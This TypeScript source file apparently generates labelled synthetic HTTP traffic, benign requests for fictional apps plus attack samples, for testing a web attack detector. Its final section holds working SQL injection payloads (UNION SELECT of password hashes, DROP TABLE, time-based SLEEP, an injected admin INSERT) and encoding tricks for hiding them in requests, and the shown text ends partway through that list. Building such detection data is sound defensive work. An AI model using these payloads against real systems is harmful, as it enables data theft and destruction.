    'mutation AddDevlog($projectId: ID!, $input: DevlogInput!) {\n  addDevlog(projectId: $projectId, input: $input) { id slug publishedAt }\n}',
    () => ({
      projectId: pick(GAME_TITLES),
      input: { title: pick(DEVLOG_TITLES), excerpt: pick(TIER_DESCRIPTIONS), visibility: 'BACKERS_ONLY' },
    }),
  ],
  [
    'query Gallery($id: ID!, $first: Int = 48, $after: String) {\n  gallery(id: $id) {\n    title\n    photos(first: $first, after: $after) { edges { node { id url(size: THUMB) isFavorite comments { text author } } } pageInfo { endCursor hasNextPage } }\n  }\n}',
    () => ({ id: uuid(), first: 48, after: b64(`cursor:${int(1, 900)}`) }),
  ],
  [
    'mutation SendMessage($chatId: ID!, $text: String!) { sendMessage(chatId: $chatId, text: $text) { id deliveredAt } }',
    () => ({ chatId: uuid(), text: pick(CHAT_MESSAGES) }),
  ],
  [
    'mutation UpsertTranslation($key: String!, $locale: Locale!, $value: String!) {\n  upsertTranslation(key: $key, locale: $locale, value: $value) { key locale value status }\n}',
    () => ({
      key: pick(['gallery.selected', 'cart.items', 'inbox.unread']),
      locale: pick(LOCALES).replace('-', '_'),
      value: pick(ICU_MESSAGES),
    }),
  ],
  [
    'query Claim($number: String!) { claim(number: $number) { status peril lossDate lineItems { code desc qty unit price } notes(last: 5) { text createdAt } } }',
    () => ({ number: `CLM-2026-${int(10000, 99999)}` }),
  ],
];

function genGraphql(n: number): void {
  for (let i = 0; i < n; i++) {
    const r = int(0, 5);
    const [query, vars] = pick(GQL_QUERIES);
    if (r <= 3) {
      const body = {
        operationName: /(query|mutation) (\w+)/.exec(query)?.[2] ?? null,
        query,
        variables: vars(),
      };
      addClean('graphql', 'POST', '/graphql', jsonHeaders(), JSON.stringify(body));
    } else if (r === 4) {
      const params = {
        operationName: /(query|mutation) (\w+)/.exec(query)?.[2] ?? '',
        variables: JSON.stringify(vars()),
        extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }),
      };
      addClean('graphql', 'GET', `/graphql?${qs(params)}`, headers());
    } else {
      addClean(
        'graphql',
        'GET',
        `/graphql?${qs({ query: '{ inspections(status: OPEN, first: 10) { id site severityCounts { high critical } } }' })}`,
        headers(),
      );
    }
  }
}

function genForm(n: number): void {
  const makers: (() => [string, Record<string, string>])[] = [
    () => [
      '/ill/public/request-form',
      {
        name: person(),
        email: pick(EMAILS),
        title: pick(BOOK_TITLES),
        notes: pick(ILL_NOTES),
        library: 'Main Library – Interlibrary Loan',
      },
    ],
    () => [
      '/galleries/access',
      { gallery: pick(GALLERY_NAMES), pin: String(int(1000, 9999)), email: pick(EMAILS), remember: 'on' },
    ],
    () => [
      '/oauth/token',
      {
        grant_type: 'refresh_token',
        refresh_token: `${hex(32)}.${hex(16)}`,
        client_id: 'dispatchly-android',
      },
    ],
    () => [
      '/dispatch/feedback',
      { order: `A${int(1000, 9999)}`, rating: String(int(1, 5)), comment: pick(CHAT_MESSAGES) },
    ],
    () => [
      '/claims/fnol/web',
      {
        policy: `HO3-${int(1000000, 9999999)}`,
        date: day(),
        what_happened: pick(CLAIM_NOTES),
        phone: `+44 7700 ${int(100000, 999999)}`,
      },
    ],
    () => [
      '/newsletter/subscribe',
      {
        email: pick(EMAILS),
        lists: 'devlogs,launch',
        source: 'https://mossandmeridian.games/?utm_source=twitter&utm_campaign=launch',
      },
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [path, body] = pick(makers)();
    addClean(
      'form',
      'POST',
      path,
      headers({ 'content-type': 'application/x-www-form-urlencoded' }),
      formBody(body),
    );
  }
}

function multipart(
  parts: { name: string; value: string; filename?: string; type?: string }[],
): [string, string] {
  const boundary = `----WebKitFormBoundary${b64(hex(12))
    .replace(/[^A-Za-z0-9]/g, '')
    .slice(0, 16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined)
      body += `; filename="${p.filename}"\r\nContent-Type: ${p.type ?? 'application/octet-stream'}`;
    body += `\r\n\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return [`multipart/form-data; boundary=${boundary}`, body];
}

function fakeJpeg(): string {
  return `\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000\u0001\u0001${hex(40)}Exif MM ${hex(30)}`;
}

function genMultipart(n: number): void {
  for (let i = 0; i < n; i++) {
    const r = int(0, 4);
    let path: string;
    let parts: { name: string; value: string; filename?: string; type?: string }[];
    if (r === 0) {
      path = `/inspections/${uuid()}/photos`;
      parts = [
        { name: 'caption', value: pick(HAZARDS) },
        { name: 'findingId', value: uuid() },
        { name: 'file', filename: `IMG_${int(1000, 9999)}.jpg`, type: 'image/jpeg', value: fakeJpeg() },
      ];
    } else if (r === 1) {
      path = `/claims/CLM-2026-${int(10000, 99999)}/documents`;
      parts = [
        { name: 'type', value: pick(['receipt', 'estimate', 'police-report']) },
        { name: 'description', value: pick(CLAIM_NOTES) },
        {
          name: 'file',
          filename: pick(['Xactimate estimate v2.pdf', 'receipt_tv_bestbuy.pdf', 'Rechnung Trocknung.pdf']),
          type: 'application/pdf',
          value: `%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n${hex(40)}`,
        },
      ];
    } else if (r === 2) {
      path = `/galleries/${uuid()}/uploads`;
      parts = [
        {
          name: 'album',
          value: pick(['Getting ready', 'Ceremony', 'Portraits', 'Reception', 'ファーストミート']),
        },
        {
          name: 'file',
          filename: `${pick(['DSC', '_MG_', 'AN2_'])}${int(1000, 9999)}.jpg`,
          type: 'image/jpeg',
          value: fakeJpeg(),
        },
      ];
    } else if (r === 3) {
      path = '/l10n/projects/dispatchly-app/import';
      parts = [
        { name: 'locale', value: pick(LOCALES) },
        { name: 'overwrite', value: 'false' },
        {
          name: 'file',
          filename: 'messages.po',
          type: 'text/x-gettext-translation',
          value: `msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Plural-Forms: nplurals=3; plural=(n==1 ? 0 : n%10>=2 && n%10<=4 && (n%100<10 || n%100>=20) ? 1 : 2);\\n"\n\nmsgid "%d order ready"\nmsgid_plural "%d orders ready"\nmsgstr[0] "%d zamówienie gotowe"\nmsgstr[1] "%d zamówienia gotowe"\nmsgstr[2] "%d zamówień gotowych"\n`,
        },
      ];
    } else {
      path = `/projects/${pick(['dungeon-accountant', 'kite-cartographers'])}/media`;
      parts = [
        { name: 'alt', value: 'Screenshot: the goose stealing a lantern in the swamp biome' },
        {
          name: 'file',
          filename: 'screenshot_2026-10-03.png',
          type: 'image/png',
          value: `\u0089PNG\r\n\u001a\n${hex(60)}`,
        },
      ];
    }
    const [ct, body] = multipart(parts);
    addClean('multipart', 'POST', path, headers({ 'content-type': ct }), body);
  }
}

function genNdjson(n: number): void {
  for (let i = 0; i < n; i++) {
    const r = int(0, 2);
    const lines: unknown[] = [];
    let path: string;
    if (r === 0) {
      path = '/v1/costs/ingest';
      for (let j = 0; j < int(3, 8); j++) {
        lines.push({
          date: day(),
          account: String(int(100000000000, 999999999999)),
          service: pick(CLOUD_SERVICES),
          usageType: pick(['BoxUsage:m7g.xlarge', 'DataTransfer-Out-Bytes', 'TimedStorage-ByteHrs']),
          cost: Number(money(0, 800)),
          tags: { team: pick(['payments-core', 'search', 'ml']) },
        });
      }
    } else if (r === 1) {
      path = '/dispatch/telemetry';
      for (let j = 0; j < int(4, 10); j++) {
        lines.push({
          courierId: `c_${hex(6)}`,
          ts: isoDate(),
          lat: 40.4 + rand() / 10,
          lng: -3.7 + rand() / 10,
          speedKmh: int(0, 45),
          battery: int(5, 100),
        });
      }
    } else {
      path = '/l10n/projects/costwise/strings:bulkUpsert';
      for (let j = 0; j < int(3, 6); j++) {
        lines.push({
          key: `budget.alert.${pick(['title', 'body', 'cta', 'footer'])}`,
          locale: pick(LOCALES),
          value: pick(ICU_MESSAGES),
        });
      }
    }
    addClean(
      'ndjson',
      'POST',
      path,
      headers({ 'content-type': 'application/x-ndjson' }),
      `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`,
    );
  }
}

function genDelete(n: number): void {
  const paths = [
    () => `/v1/budgets/${uuid()}`,
    () => `/v1/resources/r-${hex(10)}/tags/${encodeURIComponent(pick(['temp', 'owner', 'Projekt Größe']))}`,
    () => `/galleries/${uuid()}/photos/IMG_${int(1000, 9999)}/favorite`,
    () => `/inspections/${uuid()}/photos/${uuid()}`,
    () => `/projects/pixel-pilgrims/devlogs/${int(1, 40)}/comments/${int(1000, 9999)}`,
    () =>
      `/ill/requests/${uuid()}?${qs({ reason: pick(['found locally', 'no longer needed', 'duplicate']) })}`,
    () => `/dispatch/chats/${uuid()}/messages/${uuid()}`,
    () => `/claims/CLM-2026-${int(10000, 99999)}/documents/${uuid()}`,
    () =>
      `/l10n/keys/${encodeURIComponent(pick(['legacy.checkout.old_banner', 'onboarding.step4', 'errors.gone']))}?${qs({ allLocales: true })}`,
  ];
  for (let i = 0; i < n; i++) addClean('delete', 'DELETE', pick(paths)(), headers());
}

const HTML_DEVLOGS = [
  () =>
    `<h2>${pick(DEVLOG_TITLES)}</h2><p>Hi backers! This month we rebuilt the <strong>pathfinding</strong> from scratch. The old A* version choked on maps larger than 256×256 tiles.</p><ul><li>Navmesh baking is now <em>3× faster</em></li><li>Geese no longer walk through walls 🪿</li></ul><p><a href="https://mossandmeridian.games/press" target="_blank" rel="noopener">Press kit</a> updated.</p><img src="https://cdn.mossandmeridian.games/devlog/14/goose.gif" alt="goose chasing the player" width="640" height="360">`,
  () =>
    `<p>Quick update on <b>shipping</b>: art books are at the printer in Łódź 🇵🇱. EU backers should get theirs by <time datetime="2027-02-15">mid-February</time>.</p><blockquote><p>“We'd rather be late than ship a blurry book.” — Ola, art director</p></blockquote><table><thead><tr><th>Region</th><th>ETA</th></tr></thead><tbody><tr><td>EU</td><td>Feb</td></tr><tr><td>US/CA</td><td>March</td></tr></tbody></table>`,
  () =>
    `<h3>Patch notes 0.9.3</h3><ol><li>Fixed a crash when the save folder path contained non-ASCII characters (e.g. <code>C:\\Users\\Zoë\\Saved Games</code>).</li><li>Controller remapping for Steam Deck.</li></ol><p>Full changelog on <a href="https://steamcommunity.com/games/000000/announcements">Steam</a>.</p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen></iframe>`,
];
const HTML_REPORTS = [
  () =>
    `<h1>Adjuster report — ${`CLM-2026-${int(10000, 99999)}`}</h1><p><strong>Cause of loss:</strong> ${pick(CLAIM_NOTES)}</p><h2>Scope</h2><ul><li>Remove &amp; replace drywall, 2' flood cut, 38 LF</li><li>Antimicrobial application — 160 SF</li><li>Dehumidifier (LGR) 4 days @ $85.00/day</li></ul><p style="color:#b00">Depreciation applied per policy: 22%.</p>`,
  () =>
    `<h2>Inspection summary</h2><p>Site: <em>${pick(['Plant 4 – Łódź', 'Warehouse Süd', 'Dock B'])}</em>, inspector ${person()}.</p><p>${pick(HAZARDS)}</p><table border="1"><tr><th>Item</th><th>Result</th></tr><tr><td>${pick(CHECKLIST_ITEMS)}</td><td>✅ pass</td></tr><tr><td>${pick(CHECKLIST_ITEMS)}</td><td>❌ fail</td></tr></table><p>Photos: <a href="https://files.safewalk.example/insp/${uuid()}/">gallery</a></p>`,
];

function genCmsHtml(n: number): void {
  for (let i = 0; i < n; i++) {
    if (chance(0.55)) {
      const body = {
        devlog: {
          title: pick(DEVLOG_TITLES),
          contentHtml: pick(HTML_DEVLOGS)(),
          tags: ['update', 'art'],
          backersOnly: chance(0.4),
        },
      };
      addClean(
        'cms-html',
        chance(0.5) ? 'POST' : 'PUT',
        `/projects/${pick(['moss-and-meridian', 'pixel-pilgrims', 'zuraw'])}/devlogs`,
        jsonHeaders(),
        JSON.stringify(body),
      );
    } else {
      const body = {
        report: {
          kind: pick(['claim-adjuster', 'site-inspection']),
          summaryHtml: pick(HTML_REPORTS)(),
          finalized: chance(0.5),
        },
      };
      addClean('cms-html', 'PUT', `/reports/${uuid()}`, jsonHeaders(), JSON.stringify(body));
    }
  }
}

const SNIPPETS: [string, string][] = [
  [
    'hcl',
    'resource "aws_budgets_budget" "platform" {\n  name         = "platform-prod"\n  budget_type  = "COST"\n  limit_amount = "42000"\n  limit_unit   = "USD"\n  time_unit    = "MONTHLY"\n  cost_filter {\n    name   = "TagKeyValue"\n    values = ["user:team$payments-core"]\n  }\n}',
  ],
  [
    'sql',
    "-- top 10 services by amortized cost last month\nSELECT line_item_product_code, SUM(line_item_unblended_cost) AS cost\nFROM cur.billing\nWHERE line_item_usage_start_date >= date_trunc('month', current_date) - interval '1' month\nGROUP BY 1\nORDER BY cost DESC\nLIMIT 10;",
  ],
  [
    'typescript',
    "import { IntlMessageFormat } from 'intl-messageformat';\n\nconst msg = new IntlMessageFormat('{count, plural, one {# photo} other {# photos}}', 'en');\nconsole.log(msg.format({ count: 3 })); // \"3 photos\"",
  ],
  [
    'bash',
    '#!/usr/bin/env bash\nset -euo pipefail\n# export strings for all locales\nfor loc in de-DE fr-FR ja-JP; do\n  lokal export --project proofbox-web --locale "$loc" > "i18n/$loc.json"\ndone\ngit diff --stat i18n/',
  ],
  [
    'python',
    'import gettext\n\nt = gettext.translation("dispatch", localedir="locale", languages=["pl"])\n_ = t.ngettext\nprint(_("%d order ready", "%d orders ready", n) % n)',
  ],
  [
    'yaml',
    'checklist:\n  id: forklift-daily\n  items:\n    - "Horn & lights working"\n    - "Forks: no cracks, heel wear < 10%"\n    - "Seat belt latches"\n  escalate_on_fail: [supervisor, ehs@plant4.example]',
  ],
  [
    'java',
    'ResourceBundle rb = ResourceBundle.getBundle("Messages", Locale.forLanguageTag("uk-UA"));\nString s = MessageFormat.format(rb.getString("items.count"), count);\nSystem.out.println(s);',
  ],
  [
    'gdscript',
    'extends CharacterBody2D\n\n@export var speed := 220.0\n\nfunc _physics_process(delta):\n\tvar dir = Input.get_vector("left", "right", "up", "down")\n\tvelocity = dir * speed\n\tmove_and_slide()',
  ],
  [
    'json',
    '{\n  "app.title": "Dispatchly",\n  "orders.count": "{count, plural, one {# order} other {# orders}}",\n  "greeting": "Hi {{name}}!"\n}',
  ],
];

function genCode(n: number): void {
  for (let i = 0; i < n; i++) {
    const [lang, source] = pick(SNIPPETS);
    const body = {
      snippet: {
        title: pick([
          'How we tag budgets',
          'Export script',
          'Plural rules example',
          'Forklift checklist as code',
          'Player movement',
          'CUR query',
        ]),
        language: lang,
        source,
      },
      sharedWith: pick(['team', 'public', 'private']),
    };
    addClean(
      'code',
      'POST',
      pick([
        '/v1/notebooks/snippets',
        '/l10n/docs/snippets',
        '/projects/kite-cartographers/snippets',
        '/inspections/templates/snippets',
      ]),
      jsonHeaders(),
      JSON.stringify(body),
    );
  }
}

const PROSE = [
  'Tried the beta on my Steam Deck: 40 fps in the swamp, 60 elsewhere. Fan gets loud after ~20 min. Otherwise 10/10, the goose is a menace.',
  'Hi! My name is Siobhán (with the fada) and it shows up as "SiobhÃ¡n" on my pledge receipt. Can you fix the encoding?',
  'The adjuster said "we\'ll cut a check for the ACV now and the recoverable depreciation once the work is done". What does ACV mean exactly?',
  'Restaurant closed early (power cut on the whole block). Please cancel orders #B1120–#B1134 and notify customers; refunds via the usual flow.',
  'Renewal request: the lending library (BSB München) allows one renewal of 4 weeks. Requested on 12.11., awaiting reply.',
  'Photographer note: RAW files are 45 MP, the proofs are 2048 px on the long edge with a watermark. Full-res export after the final payment.',
  'Inspector comment: the contractor removed the guard "just for five minutes" to clear a jam. Retraining scheduled; disciplinary per policy 7.3.',
  'Tagging policy v2: every resource needs team, env and cost-center; anything untagged after 72 h gets a Slack nudge, then a Jira ticket.',
  'Translators, heads-up: in Japanese the counter for photos is 枚, so "{count}枚の写真" reads better than "{count}個".',
  'Mi scusi, il corriere ha lasciato la borsa davanti alla porta sbagliata (interno 4 invece di 14).',
  "Kun je de foto's van de ceremonie iets lichter maken? Het was erg bewolkt die dag.",
  'Szanowni Państwo, proszę o przedłużenie wypożyczenia do 30.01 — piszę pracę magisterską.',
  'नमस्ते! कृपया शादी की सभी तस्वीरें एक ज़िप फ़ाइल में भेज दें।',
  'Ödeme planı hakkında bilgi alabilir miyim? Kademeli destek seçeneğini seçtim.',
  'Burst pipe → ceiling collapse in the hallway. Contractor quote: $4,870.00 incl. tax; second quote pending from a union shop.',
  'Please execute the waiver form before the adjuster arrives on Tuesday between 9–11 am (window confirmed by SMS).',
  'Reminder: the backup job deletes snapshots older than 30 days, so exec reports pulled from them before 1 Oct are gone.',
  'Why does the forecast show $0.00 for November? I think the cost explorer export failed — the file in the bucket is 0 bytes.',
  'lol the rider sent me a picture of my pizza on his scooter seat 😂 it was fine though, still hot',
  "Shipping to Brazil: customs (Receita Federal) may charge ~60% import tax; we can't cover that, sorry. Digital tiers are unaffected.",
  "Please select the dates you're free next week; we'll drop by to inspect the roof — weather permitting. Union rep wants to attend too.",
  'I tried to delete the old budget but it says "in use by 2 alerts". Where do I remove those from?',
  'Our kitchen staff will execute the new pickup process starting Monday: orders go on the shelf by the door, couriers scan & go.',
  'The drop in backer numbers after the trailer was expected — the script for the trailer ran long. Update from the table read in Thursday.',
  "Bonjour, pourriez-vous m'envoyer les photos en haute définition ? On aimerait les imprimer pour les grands-parents.",
  'Sehr geehrte Damen und Herren, bitte senden Sie das Buch per Fernleihe an die Zweigbibliothek Medizin. Mit freundlichen Grüßen',
  'Добрий день! Чи можна продовжити термін позики ще на два тижні? Дякую.',
  '配達員さんへ：マンションの裏口から入ってください。インターホンは「305」です。',
  'Ο φάκελος της αποζημίωσης είναι πλήρης· περιμένουμε μόνο την έκθεση του πραγματογνώμονα.',
  'شكراً على الصور الرائعة! هل يمكن إرسال الألبوم قبل نهاية الشهر؟',
  '请在周五之前完成所有中文字符串的审校，谢谢！',
  'Fix the cat command typo in the readme? It says "cat /etc/hosts" but on Windows people need "type" instead.',
  'The script kiddie joke in the devlog got some complaints; we rewrote that paragraph. Sorry about that!',
  "Grandma's ring got lost during the move, and we're not sure whether it's covered under the \"scheduled items\" rider or not.",
  'Anomaly looks like a runaway cron: `*/1 * * * *` instead of `0 */1 * * *`. 60× the invocations. Oops.',
  'Who wants to select the final font for the menus? Voting closes at 5 pm CET. Options: Inter, Atkinson Hyperlegible, Fraunces.',
  'Rider was rude and threw the bag at the door. Food was fine but the attitude — not ok. 1 star.',
  '¡Gracias por las fotos! Lloramos viendo el video del primer baile 😭💃',
  "We're going to drop support for 32-bit Windows. If that affects you, reply here with your specs and we'll figure something out.",
  'Item arrived with water damage on the cover; not our fault, the courier bag was soaked. Please note on the lender record.',
  'Can you update the ICU string so it reads "1 item" instead of "1 items"? Polish needs few/many forms too — see CLDR plural rules.',
  'Where is the OR between hazards 3 and 4? The checklist says both must fail to escalate, but the SOP says either one.',
  'Rate: €0.12/kWh × 1 840 kWh = €220.80 — the power cost is higher than the instance fee on the colo bill.',
  'Kto odpowiada za zamówienie nr 8812? Kurier czeka od 15 minut przed lokalem.',
  'Insured says "the neighbour\'s contractor ran a backhoe through our sewer line" — subrogation potential against contractor\'s GL carrier.',
  'Loved the update!!! One question: will the physical edition include the <3 sticker sheet shown in the Kickstarter video?',
  'Note to translators: keep {count} and %1$d untouched, and do NOT translate the brand name "Proofbox". Thanks 🙏',
  'Waiting on the lender (University of Tartu). They said the item is "in transit" since 02.11 — chasing again on Monday.',
  'For the record: the hazard on line 4 ("exposed wiring") was a false alarm; it\'s low-voltage sensor cable. Closing.',
  'Mind the 100% tagging goal: untagged spend is still 14% ($23,118.40) — mostly from the sandbox accounts & old snapshots.',
];

function genProse(n: number): void {
  for (let i = 0; i < n; i++) {
    const first = pick(PROSE);
    const text = chance(0.35) ? `${first}\n\n${pick(PROSE)}` : first;
    const r = int(0, 4);
    let path: string;
    let body: unknown;
    if (r === 0) {
      path = `/dispatch/chats/${uuid()}/messages`;
      body = { text, attachments: [] };
    } else if (r === 1) {
      path = `/claims/CLM-2026-${int(10000, 99999)}/notes`;
      body = { note: { text, pinned: chance(0.2) }, mentions: [pick(EMAILS)] };
    } else if (r === 2) {
      path = `/projects/${pick(['zuraw', 'moss-and-meridian'])}/devlogs/${int(1, 30)}/comments`;
      body = { comment: text, replyTo: chance(0.4) ? int(100, 9999) : null };
    } else if (r === 3) {
      path = `/galleries/${uuid()}/messages`;
      body = { from: person(), email: pick(EMAILS), message: text };
    } else {
      path = `/ill/requests/${uuid()}/comments`;
      body = { author: person(), body: text, internal: chance(0.5) };
    }
    addClean('prose', 'POST', path, jsonHeaders(), JSON.stringify(body));
  }
}

const SEARCHES = [
  'select committee minutes 1923',
  'drop shipping art book',
  'NAT gateway data transfer',
  '"water damage" ceiling',
  'union pacific rail history',
  'Kafka Verwandlung Erstausgabe',
  'wedding first dance',
  'forklift OR pallet jack',
  '東京 EBS',
  'pho tái nạm',
  'plural rules {count}',
  'Hello {{name}}',
  '%1$d items',
  'grep sed awk cookbook',
  "O'Brien claim",
  'roof -hail',
  'C++ primer 5th ed.',
  'cost > 1000 AND service = EC2',
  'Łódź plant 4',
  'Тарас Шевченко Кобзар',
  'where to eat near me',
  'script for the ceremony',
  'café crème',
  'bride & groom portraits',
  '50% off tier',
];

function genSearch(n: number): void {
  const ep = [
    (q: string) =>
      `/search?${qs({ q, scope: pick(['claims', 'galleries', 'inspections', 'all']), page: int(1, 5) })}`,
    (q: string) =>
      `/ill/catalog/search?${qs({ q, type: pick(['book', 'article', 'any']), lang: pick(['any', 'de', 'uk', 'en']) })}`,
    (q: string) => `/l10n/search?${qs({ q, locale: pick(LOCALES), in: pick(['source', 'target', 'key']) })}`,
    (q: string) => `/v1/search/resources?${qs({ q, limit: 25 })}`,
    (q: string) => `/projects/search?${qs({ q, sort: pick(['trending', 'newest', 'ending_soon']) })}`,
  ];
  for (let i = 0; i < n; i++) addClean('search', 'GET', pick(ep)(pick(SEARCHES)), headers());
}

// ---------------------------------------------------------------------------------------------------------
// Attack builders
// ---------------------------------------------------------------------------------------------------------

/** Where an attack payload is placed; each returns [method, path, headers, body, technique-suffix]. */
type Placement = (payload: string) => [string, string, Record<string, string>, string, string];

/** Escape every character of `needle` inside the JSON text as \\uXXXX (what a JSON encoder may legally do). */
function uEscapeAll(json: string, needle: string): string {
  const enc = JSON.stringify(needle).slice(1, -1);
  const esc = [...needle].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  return json.split(enc).join(esc);
}

const PLACEMENTS: Record<string, Placement> = {
  nestedField: (p) => [
    'POST',
    `/claims/CLM-2026-${int(10000, 99999)}/notes`,
    jsonHeaders(),
    JSON.stringify({ note: { text: p, pinned: false }, mentions: [pick(EMAILS)] }),
    'nested JSON field',
  ],
  arrayElement: (p) => [
    'POST',
    `/galleries/${uuid()}/selections`,
    jsonHeaders(),
    JSON.stringify({ photoIds: ['IMG_1042.CR3', p, 'IMG_1050.CR3'], comment: 'these three please' }),
    'array element',
  ],
  deepArray: (p) => [
    'POST',
    `/inspections/${uuid()}/findings`,
    jsonHeaders(),
    JSON.stringify({
      checklistItem: pick(CHECKLIST_ITEMS),
      evidence: [{ photos: [{ caption: p }] }],
      severity: 'low',
    }),
    'deeply nested array',
  ],
  unicodeEscaped: (p) => [
    'PUT',
    `/l10n/strings/${uuid()}/translations/de-DE`,
    jsonHeaders(),
    uEscapeAll(JSON.stringify({ target: p, status: 'draft' }), p),
    'fully \\u-escaped JSON string',
  ],
  jsonInString: (p) => [
    'POST',
    '/v1/costs/anomalies/notes',
    jsonHeaders(),
    JSON.stringify({ anomalyId: uuid(), payload: JSON.stringify({ note: p, by: person() }) }),
    'JSON encoded inside a string field',
  ],
  base64Field: (p) => [
    'POST',
    '/dispatch/webhooks/pos',
    jsonHeaders(),
    JSON.stringify({
      event: 'order.created',
      encoding: 'base64',
      data: b64(JSON.stringify({ order: 'A8812', note: p })),
    }),
    'base64 body the API decodes',
  ],
  graphqlVar: (p) => [
    'POST',
    '/graphql',
    jsonHeaders(),
    JSON.stringify({
      operationName: 'SendMessage',
      query:
        'mutation SendMessage($chatId: ID!, $text: String!) { sendMessage(chatId: $chatId, text: $text) { id } }',
      variables: { chatId: uuid(), text: p },
    }),
    'GraphQL variable',
  ],
  graphqlGet: (p) => [
    'GET',
    `/graphql?${qs({ operationName: 'Claim', variables: JSON.stringify({ number: p }), extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }) })}`,
    headers(),
    '',
    'persisted GraphQL GET variables',
  ],
  queryEncoded: (p) => [
    'GET',
    `/ill/catalog/search?${qs({ q: p, type: 'book' })}`,
    headers(),
    '',
    'percent-encoded query string',
  ],
  queryRaw: (p) => [
    'GET',
    `/v1/costs?groupBy=service&filter=${p.replace(/[ #&"<>`{}|\\^+]/g, (c) => (c === ' ' ? '+' : `%${c.charCodeAt(0).toString(16).toUpperCase()}`))}`,
    headers(),
    '',
    'query string, minimally encoded with plus for spaces',
  ],
  uaHeader: (p) => ['GET', `/v1/budgets/${uuid()}`, headers({ 'user-agent': p }), '', 'User-Agent header'],
  refererHeader: (p) => ['GET', '/galleries/shared', headers({ referer: p }), '', 'Referer header'],
  customHeader: (p) => [
    'GET',
    `/l10n/projects/costwise/strings?locale=de-DE`,
    headers({ 'x-client-locale': p }),
    '',
    'custom X- header',
  ],
  formField: (p) => [
    'POST',
    '/dispatch/feedback',
    headers({ 'content-type': 'application/x-www-form-urlencoded' }),
    formBody({ order: 'A8812', rating: '1', comment: p }),
    'urlencoded form field',
  ],
  multipartField: (p) => {
    const [ct, body] = multipart([
      { name: 'caption', value: p },
      { name: 'file', filename: 'IMG_2231.jpg', type: 'image/jpeg', value: fakeJpeg() },
    ]);
    return [
      'POST',
      `/inspections/${uuid()}/photos`,
      headers({ 'content-type': ct }),
      body,
      'multipart text field',
    ];
  },
  ndjsonLine: (p) => [
    'POST',
    '/l10n/projects/costwise/strings:bulkUpsert',
    headers({ 'content-type': 'application/x-ndjson' }),
    `${JSON.stringify({ key: 'a.title', locale: 'fr-FR', value: 'Budget' })}\n${JSON.stringify({ key: 'a.body', locale: 'fr-FR', value: p })}\n`,
    'second NDJSON record',
  ],
  mergePatch: (p) => [
    'PATCH',
    `/claims/CLM-2026-${int(10000, 99999)}`,
    jsonHeaders('application/merge-patch+json'),
    JSON.stringify({ adjusterNotes: p }),
    'merge-patch value',
  ],
  jsonPatchValue: (p) => [
    'PATCH',
    `/v1/resources/r-${hex(10)}/tags`,
    jsonHeaders('application/json-patch+json'),
    JSON.stringify([{ op: 'add', path: '/tags/owner', value: p }]),
    'JSON-Patch value',
  ],
  jsonApiAttr: (p) => [
    'POST',
    '/api/pledges',
    headers({ 'content-type': 'application/vnd.api+json' }, 'application/vnd.api+json'),
    JSON.stringify({ data: { type: 'pledges', attributes: { amount: 25, message: p } } }),
    'JSON:API attribute',
  ],
  objectKey: (p) => [
    'POST',
    '/v1/tags/bulk',
    jsonHeaders(),
    JSON.stringify({ resources: [`r-${hex(10)}`], tags: { [p]: 'x', env: 'prod' } }),
    'object key',
  ],
};

function placeAll(family: string, payloads: [string, string][], placements: string[]): void {
  for (let i = 0; i < payloads.length; i++) {
    const pl = payloads[i];
    if (pl === undefined) continue;
    const [payload, trick] = pl;
    let name = placements[i % placements.length] ?? 'nestedField';
    // Header values cannot carry CR/LF or non-Latin-1 text; such payloads go into a JSON field instead.
    if (name.endsWith('Header') && /[\r\n\u0100-\uffff]/.test(payload)) name = 'nestedField';
    const place = PLACEMENTS[name];
    if (place === undefined) throw new Error(`no placement ${name}`);
    const [method, path, hdrs, body, where] = place(payload);
    addAttack(family, `${trick}; ${where}`, method, path, hdrs, body);
  }
}

const ALL_PLACEMENTS = Object.keys(PLACEMENTS);

function shuffled<T>(xs: readonly T[]): T[] {
  const a = [...xs];
  for (let i = a.length - 1; i > 0; i--) {
    const j = int(0, i);
    const t = a[i] as T;
    a[i] = a[j] as T;
    a[j] = t;
  }
  return a;
}

function genSql(): void {
  const payloads: [string, string][] = [
    ["' OR '1'='1' -- ", 'tautology with comment'],
    ["x' UNION SELECT username, password_hash, NULL FROM users--", 'UNION SELECT exfiltration'],
    ['1; DROP TABLE claims; --', 'stacked query DROP TABLE'],
    ["' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -", 'MySQL time-based SLEEP'],
    ["'; SELECT pg_sleep(10)--", 'PostgreSQL pg_sleep'],
    ["1'; WAITFOR DELAY '0:0:7'--", 'MSSQL WAITFOR DELAY'],
    [
      "'/**/UnIoN/**/SeLeCt/**/table_name,2/**/FrOm/**/information_schema.tables#",
      'inline comments and mixed case',
    ],
    ["admin'--", 'comment truncation'],
    ['1 AND extractvalue(1,concat(0x7e,(SELECT @@version)))', 'error-based extractvalue'],
    [
      "' || (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE 'a' END FROM dual) || '",
      'Oracle boolean error oracle',
    ],
    ['1) OR (1=1', 'parenthesis breakout'],
    ["-1' UNION ALL SELECT NULL,CONCAT(0x71,user(),0x71),NULL-- x", 'UNION ALL with hex literals'],
    ["' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--", 'MSSQL CONVERT error-based'],
    [
      "x' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 AND 'a'='a",
      'blind substring inference',
    ],
    ["'; INSERT INTO adjusters(email,role) VALUES('evil@x.io','admin');--", 'stacked INSERT'],
    ['amount DESC, (SELECT CASE WHEN (SELECT 1)=1 THEN 1 ELSE 1/0 END)', 'ORDER BY injection'],
    ["1' OR SLEEP(3)#", 'OR SLEEP with hash comment'],
    ["' OR 'x' LIKE 'x", 'LIKE tautology'],
